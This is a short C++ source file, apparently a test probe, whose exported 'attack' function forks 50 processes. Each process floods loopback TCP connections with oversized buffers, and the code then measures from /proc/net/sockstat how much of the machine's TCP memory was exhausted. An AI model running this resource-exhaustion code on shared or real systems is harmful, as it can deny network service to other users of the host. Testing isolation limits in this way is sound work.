#include <cstdio>
#include <cstring>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

static const int PROCESSES = 50;
static const long LIMIT = 256;
static char block[1 << 16];

static void fill_connections() {
    int size = 1 << 30, door = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in name = {};
    socklen_t length = sizeof name;
    name.sin_family = AF_INET;
    name.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    auto address = reinterpret_cast<struct sockaddr *>(&name);
    setsockopt(door, SOL_SOCKET, SO_RCVBUF, &size, sizeof size);
    if (bind(door, address, length) || listen(door, 1024) || getsockname(door, address, &length))
        return;
    for (int one; (one = socket(AF_INET, SOCK_STREAM, 0)) >= 0;) {
        setsockopt(one, SOL_SOCKET, SO_SNDBUF, &size, sizeof size);
        if (connect(one, address, length) || accept(door, nullptr, nullptr) < 0)
            break;
        while (send(one, block, sizeof block, MSG_DONTWAIT) > 0) {
        }
    }
}

// Of the whole machine: proc(5), /proc/net/sockstat.
static long megabytes() {
    char line[256];
    long pages = 0;
    FILE *file = fopen("/proc/net/sockstat", "r");
    while (file && fgets(line, sizeof line, file))
        if (const char *found = strncmp(line, "TCP:", 4) ? nullptr : strstr(line, "mem "))
            sscanf(found, "mem %ld", &pages);
    if (file)
        fclose(file);
    return pages * getpagesize() >> 20;
}

extern "C" long attack(long n) {
    int ready[2];
    char one;
    long before = megabytes();
    if (pipe(ready))
        return -1;
    for (int i = 0; i < PROCESSES; i++)
        if (fork() == 0) {
            fill_connections();
            if (write(ready[1], "x", 1) != 1)
                _exit(2);
            for (;;)
                pause();
        }
    for (int i = 0; i < PROCESSES; i++)
        if (read(ready[0], &one, 1) != 1)
            return -2;
    long taken = megabytes() - before;
    printf("%ld MiB of the machine's TCP memory\n", taken);
    return taken > LIMIT ? taken - LIMIT : 0;
}
